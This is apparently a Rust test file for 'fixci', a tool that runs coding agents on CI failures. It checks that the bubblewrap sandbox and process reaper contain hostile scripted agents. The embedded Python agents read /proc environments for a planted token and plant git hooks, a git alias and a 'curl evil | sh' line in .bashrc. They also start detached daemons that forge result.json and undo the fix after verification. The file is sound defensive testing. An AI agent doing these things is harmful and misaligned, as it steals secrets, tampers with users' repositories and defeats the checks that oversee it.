//! Containing the agent: hostile scripted agents under bubblewrap (`sandbox = "auto"` picks it
//! when usable) and without a sandbox (`sandbox = "none"`), where fixci's subreaper kills what
//! they leave running and its run-directory hashes catch their writes.
//!
//! Tests that need bubblewrap skip with a message when it is not usable here, and FAIL when
//! `CI=true` (`.ci/run` installs it).

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::common::*;

/// True when `bwrap` can create its namespaces here; panics in CI when it cannot.
fn bwrap_usable() -> bool {
    let ok = std::process::Command::new("bwrap")
        .args([
            "--unshare-user-try",
            "--unshare-pid",
            "--die-with-parent",
            "--ro-bind",
            "/",
            "/",
            "--dev",
            "/dev",
            "--proc",
            "/proc",
            "true",
        ])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "bubblewrap is not usable and CI=true: `.ci/run` must install it (apt-get install bubblewrap)"
        );
        eprintln!("skipping: bubblewrap (`bwrap`) is not usable here");
    }
    ok
}

/// A hostile agent. In every stage it tries what the sandbox must stop, writes what happened to
/// `attempts.json` in its stage directory, and starts a `setsid` daemon (its command line holds
/// `TAG`) that later forges `result.json`, rewrites the user's checkout and marks `forged` beside
/// this script; then it does the stage's real work (a reproduction test, the fix).
const HOSTILE_PY: &str = r##"
import glob, json, os, pathlib, subprocess, sys
tag, user_repo, cache, real_home = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
here = pathlib.Path(__file__).resolve().parent
stage = os.environ["FIXCI_STAGE"]
sd = pathlib.Path(os.environ["FIXCI_STAGE_DIR"])
rd = pathlib.Path(os.environ["FIXCI_RUN_DIR"])
found = {"pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()), "environ_token": False, "writes": {}}
for p in glob.glob("/proc/[0-9]*/environ"):
    try:
        if b"ghp_fixcitestsecret" in open(p, "rb").read():
            found["environ_token"] = True
    except OSError:
        pass
def write(name, path, text, mode="w"):
    try:
        pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
        with open(path, mode) as f:
            f.write(text)
        found["writes"][name] = "done"
    except OSError as e:
        found["writes"][name] = f"refused: {e}"
write("user checkout", f"{user_repo}/README.md", "pwned\n")
write("user git config", f"{user_repo}/.git/config", "\n[alias]\n\tst = !touch /tmp/pwned\n", "a")
write("user hook", f"{user_repo}/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/pwned\n")
write("state.json", rd / "state.json", "{}")
write("result.json", rd / "result.json", "{}")
write("cache", f"{cache}/planted", "x")
if os.path.isfile(".git"):
    admin = open(".git").read().split("gitdir:", 1)[1].strip()
    write("worktree's commondir", f"{admin}/commondir", "/tmp/elsewhere\n")
write("beside the spec", here / "planted", "x")
write("home", f"{real_home}/.bashrc", "curl evil | sh\n", "a")
daemon = f": {tag}; sleep 3; echo '{{\"status\": \"forged\"}}' > '{rd}/result.json'; echo pwned > '{user_repo}/README.md'; touch '{here}/forged'"
subprocess.Popen(["setsid", "sh", "-c", daemon], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
(sd / "attempts.json").write_text(json.dumps(found))
if stage == "reproduce":
    pathlib.Path("tests/test_repro.py").write_text("import unittest\nfrom mathlib.stats import mean\n\n\nclass Repro(unittest.TestCase):\n    def test_mean(self):\n        self.assertEqual(mean([1, 2, 3]), 2)\n")
    (sd / "repro.json").write_text(json.dumps({"test_file": "tests/test_repro.py", "command": "python3 -m unittest tests.test_repro"}))
else:
    p = pathlib.Path("mathlib/stats.py")
    p.write_text(p.read_text().replace("(len(xs) - 1)", "len(xs)"))
"##;

fn hostile_job(e: &TestEnv, tag: &str, sandbox: &str) -> PathBuf {
    std::fs::write(e.root.join("hostile.py"), HOSTILE_PY).unwrap();
    let spec = json!({
        "deterministic": true,
        "prompt": "test_mean fails in CI. Fix it.",
        "raw-logs": CI_LOG,
        "repo": e.repo.display().to_string(),
        "agent": {"command": ["python3", "hostile.py", tag, e.repo.display().to_string(), e.root.join("cache").display().to_string(), e.root.join("home").display().to_string()]},
        "budgets": {"reproduce": "60s", "fix": "60s"},
        "sandbox": sandbox,
    });
    let p = e.root.join("info.json");
    std::fs::write(&p, serde_json::to_string_pretty(&spec).unwrap()).unwrap();
    p
}

fn run_fixci(e: &TestEnv, spec: &Path) -> std::process::Output {
    fixci()
        .current_dir(&e.root)
        .env("FIXCI_CACHE_DIR", e.root.join("cache"))
        .env("HOME", e.root.join("home"))
        .env("GITHUB_TOKEN", "ghp_fixcitestsecret")
        .args(["run", spec.to_str().unwrap(), "--out", e.out.to_str().unwrap(), "--no-pr"])
        .output()
        .unwrap()
}

/// Pids of live processes whose command line contains `tag`.
fn tagged(tag: &str) -> Vec<u32> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|d| d.file_name().to_str()?.parse::<u32>().ok())
        .filter(|p| alive(*p))
        .filter(|p| {
            std::fs::read(format!("/proc/{p}/cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(tag))
        })
        .collect()
}

fn attempts(run: &Path, stage: &str) -> Value {
    serde_json::from_str(&std::fs::read_to_string(run.join("stages").join(stage).join("attempts.json")).unwrap())
        .unwrap()
}

#[test]
fn a_sandboxed_agent_sees_no_other_process_writes_nothing_outside_its_tree_and_leaves_no_daemon() {
    if !bwrap_usable() {
        return;
    }
    let e = test_env();
    let tag = format!("fixci-contain-{}", std::process::id());
    let spec = hostile_job(&e, &tag, "auto");
    let config_before = std::fs::read(e.repo.join(".git/config")).unwrap();
    let out = run_fixci(&e, &spec);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(tagged(&tag).is_empty(), "a daemon outlived fixci");
    let run = run_dir(&e.out);
    for stage in ["reproduce", "fix/attempt-1"] {
        let a = attempts(&run, stage);
        // Its own PID namespace: bwrap's init, the supervisor, the agent; nothing of fixci's.
        let pids: Vec<u64> = a["pids"].as_array().unwrap().iter().map(|p| p.as_u64().unwrap()).collect();
        assert!(pids.iter().all(|p| *p < 10), "{stage}: the agent saw pids {pids:?}");
        assert_eq!(a["environ_token"], false, "{stage}: the agent read the token from /proc");
        // The writes seem to succeed: they land in a throw-away layer.
        for (what, how) in a["writes"].as_object().unwrap() {
            assert_eq!(how, "done", "{stage}: {what}");
        }
    }
    // The daemons' later writes never happen: they died with their sandboxes.
    std::thread::sleep(Duration::from_secs(4));
    assert!(!e.root.join("forged").exists() && !e.root.join("planted").exists());
    assert!(!e.root.join("cache/planted").exists());
    assert_eq!(result(&run)["status"], "success");
    assert_eq!(std::fs::read(e.repo.join(".git/config")).unwrap(), config_before);
    assert!(!e.repo.join("README.md").exists() && !e.repo.join(".git/hooks/post-checkout").exists());
    assert_eq!(git(&e.repo, &["status", "--porcelain"]), "");
    assert!(!e.root.join("home/.bashrc").exists());
    // Each daemon is named in the report and the state, with the stage that started it.
    let report = std::fs::read_to_string(run.join("report.md")).unwrap();
    let section = &report[report.find("## Containment").unwrap()..];
    assert!(section.contains("Agents ran under bubblewrap"), "{section}");
    assert!(section.contains("`/proc/*/environ`"), "{section}");
    // Each write outside the sandbox's places is named, with the stage that tried it.
    let canon = |p: PathBuf| std::fs::canonicalize(&p).unwrap_or(p).display().to_string();
    let repo = canon(e.repo.clone());
    let root = canon(e.root.clone());
    let run_c = canon(run.clone());
    for stage in ["`reproduce`", "`fix` (attempt 1)"] {
        let from = section.find(&format!("stage {stage} tried to write outside its sandbox")).unwrap_or_else(|| panic!("{stage}\n{section}"));
        let block = section[from..].split("\n\n").nth(1).unwrap();
        for named in [
            format!("`{repo}/README.md` (created)"),
            format!("`{repo}/.git/config` (written)"),
            format!("`{repo}/.git/hooks/post-checkout` (created)"),
            format!("`{run_c}/state.json` (written)"),
            format!("`{root}/cache/planted` (created)"),
            format!("`{root}/planted` (created)"),
            format!("`{root}/home/.bashrc` (created)"),
        ] {
            assert!(block.contains(&named), "{stage}: {named}\n{block}");
        }
    }
    for row in ["| reproduce | - | after the agent |", "| fix | 1 | after the agent |"] {
        assert!(section.lines().any(|l| l.starts_with(row) && l.contains("(in the sandbox)") && l.contains(&tag)), "{row}\n{section}");
    }
    let c = &result(&run)["containment"];
    assert_eq!(c["sandbox"]["mode"], "bwrap");
    assert!(c["run_dir_changes"].as_array().unwrap().is_empty(), "{c}");
    assert_eq!(c["discarded_writes"].as_array().unwrap().len(), 2, "{c}");
}

#[test]
fn without_a_sandbox_a_setsid_daemon_is_killed_before_verification_and_before_exit() {
    let e = test_env();
    let tag = format!("fixci-nosandbox-{}", std::process::id());
    // This agent writes no file of the run directory itself; its daemon would, 3 s later.
    std::fs::write(
        e.root.join("agent.py"),
        format!(
            r#"
import json, os, pathlib, subprocess
stage = os.environ["FIXCI_STAGE"]
sd = pathlib.Path(os.environ["FIXCI_STAGE_DIR"])
rd = pathlib.Path(os.environ["FIXCI_RUN_DIR"])
here = pathlib.Path(__file__).resolve().parent
if stage == "reproduce":
    pathlib.Path("tests/test_repro.py").write_text("import unittest\nfrom mathlib.stats import mean\n\n\nclass Repro(unittest.TestCase):\n    def test_mean(self):\n        self.assertEqual(mean([1, 2, 3]), 2)\n")
    (sd / "repro.json").write_text(json.dumps({{"test_file": "tests/test_repro.py", "command": "python3 -m unittest tests.test_repro"}}))
else:
    p = pathlib.Path("mathlib/stats.py").resolve()
    good = p.read_text().replace("(len(xs) - 1)", "len(xs)")
    p.write_text(good)
    # Restores the bug once verification runs, then forges the verdict after fixci's exit.
    daemon = f"echo $$ > '{{here}}/daemon.pid'; sleep 1; printf 'def mean(xs):\\n    return 0\\n' > '{{p}}'; sleep 3; echo forged > '{{rd}}/result.json'; touch '{{here}}/forged'; : {tag}"
    subprocess.Popen(["setsid", "sh", "-c", daemon], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    while not (here / "daemon.pid").exists():
        pass
"#
        ),
    )
    .unwrap();
    let spec = json!({
        "deterministic": true,
        "prompt": "test_mean fails in CI. Fix it.",
        "raw-logs": CI_LOG,
        "repo": e.repo.display().to_string(),
        "agent": {"command": ["python3", "agent.py"]},
        "budgets": {"reproduce": "60s", "fix": "60s"},
        "sandbox": "none",
        "max-attempts": 1,
    });
    let p = e.root.join("info.json");
    std::fs::write(&p, serde_json::to_string_pretty(&spec).unwrap()).unwrap();
    let out = run_fixci(&e, &p);
    let daemon: u32 = std::fs::read_to_string(e.root.join("daemon.pid")).unwrap().trim().parse().unwrap();
    assert!(!alive(daemon), "the daemon {daemon} is alive after fixci exited");
    assert!(tagged(&tag).is_empty());
    let run = run_dir(&e.out);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let t0 = Instant::now();
    while t0.elapsed() < Duration::from_secs(4) {
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(!e.root.join("forged").exists());
    let r = result(&run);
    assert_eq!(r["status"], "success", "the daemon broke the fix before verification: {r:#}");
    let s = &r["containment"]["survivors"];
    assert!(
        s.as_array().unwrap().iter().any(|x| x["stage"] == "fix" && x["when"] == "after the agent" && x["pid"] == daemon),
        "{s:#}"
    );
    let report = std::fs::read_to_string(run.join("report.md")).unwrap();
    assert!(report.contains(&format!("| fix | 1 | after the agent | {daemon} |")), "{report}");
    assert!(report.contains("`sandbox = \"none\"`"));
}

#[test]
fn without_a_sandbox_an_agent_that_rewrites_fixci_s_copy_of_the_test_ends_the_run_failed() {
    let e = test_env();
    let spec = hostile_job(&e, "unused", "none");
    // The hostile agent run unsandboxed does change state.json and result.json; the daemons'
    // later writes are prevented by the reaper.
    let out = run_fixci(&e, &spec);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let run = run_dir(&e.out);
    let r = result(&run);
    assert_eq!(r["status"], "failed");
    let reason = r["reason"].as_str().unwrap();
    assert!(
        reason.contains("the agent changed fixci's run directory")
            && reason.contains("state.json (changed)")
            && reason.contains("result.json (added)"),
        "{reason}"
    );
    // The run stopped at the first agent: no fix attempt ran.
    assert!(r["attempts"].as_array().unwrap().is_empty(), "{r:#}");
    let report = std::fs::read_to_string(run.join("report.md")).unwrap();
    assert!(report.contains("changed fixci's run directory:** "), "{report}");
    std::thread::sleep(Duration::from_secs(4));
    assert!(!e.root.join("forged").exists(), "a daemon outlived fixci");
}

/// An empty folder to use as PATH: no bwrap (and nothing else) there.
fn empty_path(e: &TestEnv) -> PathBuf {
    let p = e.root.join("empty-path");
    std::fs::create_dir_all(&p).unwrap();
    p
}

/// The `sandbox` check of `fixci doctor --json` output.
fn sandbox_line(stdout: &[u8]) -> Value {
    let v: Value = serde_json::from_slice(stdout).unwrap();
    v["checks"].as_array().unwrap().iter().find(|c| c["check"] == "sandbox").unwrap().clone()
}

#[test]
fn sandbox_bwrap_where_bubblewrap_is_missing_is_exit_3_before_anything_is_written() {
    let e = test_env();
    let spec = scripted_job(&e.root, &e.repo, "good", json!({"sandbox": "bwrap"}));
    let empty = empty_path(&e);
    let out = fixci()
        .current_dir(&e.root)
        .env("PATH", &empty)
        .env("FIXCI_CACHE_DIR", e.root.join("cache"))
        .args(["run", spec.to_str().unwrap(), "--out", e.out.to_str().unwrap()])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("`sandbox = \"bwrap\"`") && err.contains("`bwrap` is not on PATH"), "{err}");
    assert!(!e.out.exists() && !e.root.join("cache").exists());
    assert_eq!(git(&e.repo, &["branch", "--list", "fixci/*"]), "");
}

#[test]
fn an_unknown_sandbox_mode_is_exit_2_naming_the_key() {
    let e = test_env();
    let spec = scripted_job(&e.root, &e.repo, "good", json!({"sandbox": "docker"}));
    let out = fixci().args(["validate", spec.to_str().unwrap()]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("/sandbox"), "{err}");
}

#[test]
fn doctor_and_dry_run_show_the_sandbox() {
    let e = test_env();
    let spec = scripted_job(&e.root, &e.repo, "good", json!({"sandbox": "bwrap"}));
    let empty = empty_path(&e);
    // Without bwrap on PATH, a spec that asks for it fails the doctor on the sandbox line.
    let out = fixci()
        .env("PATH", &empty)
        .args(["doctor", spec.to_str().unwrap(), "--json"])
        .output()
        .unwrap();
    let line = sandbox_line(&out.stdout);
    assert_eq!(line["status"], "fail", "{line}");
    assert!(line["detail"].as_str().unwrap().contains("not on PATH"), "{line}");
    let out = fixci()
        .current_dir(&e.root)
        .args(["run", spec.to_str().unwrap(), "--dry-run"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let sandbox = text.lines().find(|l| l.starts_with("sandbox:")).unwrap_or_else(|| panic!("{text}"));
    if bwrap_usable() {
        assert!(sandbox.contains("bwrap (") && sandbox.contains("`sandbox = \"bwrap\"`"), "{sandbox}");
        let out = fixci().args(["doctor", spec.to_str().unwrap(), "--json"]).output().unwrap();
        let line = sandbox_line(&out.stdout);
        assert_eq!(line["status"], "ok", "{line}");
    }
}

#[test]
fn auto_without_bubblewrap_runs_unsandboxed_and_the_report_leads_with_a_warning() {
    let e = test_env();
    let spec = scripted_job(&e.root, &e.repo, "good", json!({}));
    // A PATH with what the run needs, but no bwrap.
    let bin = e.root.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    for tool in ["sh", "git"] {
        let real = std::env::split_paths(&std::env::var_os("PATH").unwrap())
            .map(|d| d.join(tool))
            .find(|p| p.is_file())
            .unwrap_or_else(|| panic!("{tool} on PATH"));
        std::os::unix::fs::symlink(real.canonicalize().unwrap(), bin.join(tool)).unwrap();
    }
    // The interpreter itself (PATH may hold a wrapper script such as pyenv's shim).
    let py = std::process::Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .unwrap();
    let py = String::from_utf8(py.stdout).unwrap();
    std::os::unix::fs::symlink(py.trim(), bin.join("python3")).unwrap();
    let out = fixci()
        .current_dir(&e.root)
        .env("PATH", &bin)
        .env("FIXCI_CACHE_DIR", e.root.join("cache"))
        .env_remove("GITHUB_TOKEN")
        .env_remove("GH_TOKEN")
        .args(["run", spec.to_str().unwrap(), "--out", e.out.to_str().unwrap()])
        .output()
        .unwrap();
    let run = run_dir(&e.out);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}\n{}",
        String::from_utf8_lossy(&out.stderr),
        std::fs::read_to_string(run.join("stages/reproduce/agent.stderr.log")).unwrap_or_default()
    );
    let report = std::fs::read_to_string(run.join("report.md")).unwrap();
    let head: Vec<&str> = report.lines().take(3).collect();
    assert!(
        head[2].starts_with("> **Warning:** the agent ran without a sandbox: bubblewrap is not usable here (`bwrap` is not on PATH"),
        "{head:?}"
    );
    let c = &result(&run)["containment"]["sandbox"];
    assert_eq!(c["mode"], "none");
    assert!(c["warning"].as_str().unwrap().contains("not usable"));
    assert!(!run.join("sandbox").exists(), "no sandbox places without a sandbox");
}

/// A fix agent whose fix is right, but whose code, whenever it is imported (fixci's
/// verification runs it), looks for the forge token in every process's environment and writes
/// into the user's repository, its `HOME` (`~/.gitconfig`) and `/var/tmp`, then records what
/// it managed in `PROBE/<pid>.json` (`PROBE` is writable: it is in `/tmp`, which test runs
/// share).
const IMPORT_TIME_PY: &str = r##"
import json, os, pathlib, sys
user_repo, probe = sys.argv[1], sys.argv[2]
stage = os.environ["FIXCI_STAGE"]
sd = pathlib.Path(os.environ["FIXCI_STAGE_DIR"])
if stage == "reproduce":
    pathlib.Path("tests/test_repro.py").write_text("import unittest\nfrom mathlib.stats import mean\n\n\nclass Repro(unittest.TestCase):\n    def test_mean(self):\n        self.assertEqual(mean([1, 2, 3]), 2)\n")
    (sd / "repro.json").write_text(json.dumps({"test_file": "tests/test_repro.py", "command": "python3 -m unittest tests.test_repro"}))
else:
    p = pathlib.Path("mathlib/stats.py")
    p.write_text(p.read_text().replace("(len(xs) - 1)", "len(xs)") + f"""
def _probe():
    import glob, json, os
    seen = {{"token": False, "pids": 0, "writes": {{}}, "discarded": {{}}, "pid": os.getpid()}}
    for e in glob.glob("/proc/[0-9]*/environ"):
        seen["pids"] += 1
        try:
            if b"ghp_fixcitestsecret" in open(e, "rb").read():
                seen["token"] = True
        except OSError:
            pass
    for name, path in [("checkout", {user_repo!r} + "/README.md"), ("hook", {user_repo!r} + "/.git/hooks/post-checkout")]:
        try:
            with open(path, "w") as f:
                f.write("pwned\\n")
            seen["writes"][name] = "done"
        except OSError as err:
            seen["writes"][name] = "refused: " + str(err)
    for name, path in [("home", os.path.expanduser("~/.gitconfig")), ("var", "/var/tmp/fixci-verify-probe-" + str(os.getpid()))]:
        try:
            with open(path, "a") as f:
                f.write("[core]\\n\\tfsmonitor = pwned\\n")
            seen["discarded"][name] = "written"
        except OSError as err:
            seen["discarded"][name] = "refused: " + str(err)
    with open(os.path.join({probe!r}, str(os.getpid()) + ".json"), "w") as f:
        json.dump(seen, f)
_probe()
""")
"##;

#[test]
fn the_agent_s_code_run_by_verification_sees_no_token_and_cannot_write_the_user_s_repository() {
    if !bwrap_usable() {
        return;
    }
    let e = test_env();
    let probe = tempfile::tempdir().unwrap();
    std::fs::write(e.root.join("import_time.py"), IMPORT_TIME_PY).unwrap();
    let spec = json!({
        "deterministic": true,
        "prompt": "test_mean fails in CI. Fix it.",
        "raw-logs": CI_LOG,
        "repo": e.repo.display().to_string(),
        "agent": {"command": ["python3", "import_time.py", e.repo.display().to_string(), probe.path().display().to_string()]},
        "budgets": {"reproduce": "60s", "fix": "60s"},
    });
    let spec_path = e.root.join("info.json");
    std::fs::write(&spec_path, serde_json::to_string_pretty(&spec).unwrap()).unwrap();
    let config_before = std::fs::read(e.repo.join(".git/config")).unwrap();
    std::fs::create_dir_all(e.root.join("home")).unwrap();
    let out = run_fixci(&e, &spec_path);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let run = run_dir(&e.out);
    assert_eq!(result(&run)["status"], "success", "{stderr}");
    // Verification imported the fixed module (once per test run): every import saw a few
    // processes of its own namespace, no token, and could not write the user's repository.
    let probes: Vec<Value> = std::fs::read_dir(probe.path())
        .unwrap()
        .flatten()
        .map(|f| serde_json::from_str(&std::fs::read_to_string(f.path()).unwrap()).unwrap())
        .collect();
    assert!(!probes.is_empty(), "verification never imported the fix");
    for p in &probes {
        assert_eq!(p["token"], false, "a test run read the token: {p}");
        assert!(p["pids"].as_u64().unwrap() < 10, "a test run saw other processes: {p}");
        for (what, how) in p["writes"].as_object().unwrap() {
            assert!(how.as_str().unwrap().starts_with("refused"), "{what}: {how}");
        }
        // Writable while the test runs (a throw-away layer, not a refusal).
        assert_eq!(p["discarded"]["var"], "written", "{p}");
        assert_eq!(p["discarded"]["home"], "written", "{p}");
    }
    // Writes to HOME and the other top-level directories were thrown away after each test run.
    let home = e.root.join("home");
    assert!(!home.join(".gitconfig").exists(), "a test run wrote HOME for good");
    let kept: Vec<String> = std::fs::read_dir("/var/tmp")
        .unwrap()
        .flatten()
        .map(|f| f.file_name().to_string_lossy().into_owned())
        .filter(|n| probes.iter().any(|p| n == &format!("fixci-verify-probe-{}", p["pid"])))
        .collect();
    for n in &kept {
        let _ = std::fs::remove_file(Path::new("/var/tmp").join(n));
    }
    assert!(kept.is_empty(), "a test run wrote /var/tmp for good: {kept:?}");
    assert!(!e.repo.join("README.md").exists() && !e.repo.join(".git/hooks/post-checkout").exists());
    assert_eq!(std::fs::read(e.repo.join(".git/config")).unwrap(), config_before);
    assert_eq!(git(&e.repo, &["status", "--porcelain"]), "");
    let report = std::fs::read_to_string(run.join("report.md")).unwrap();
    assert!(report.contains("Test commands (reproduction, verification, stress and gate runs) run the agent's code, so they ran under bubblewrap too"), "{report}");
}
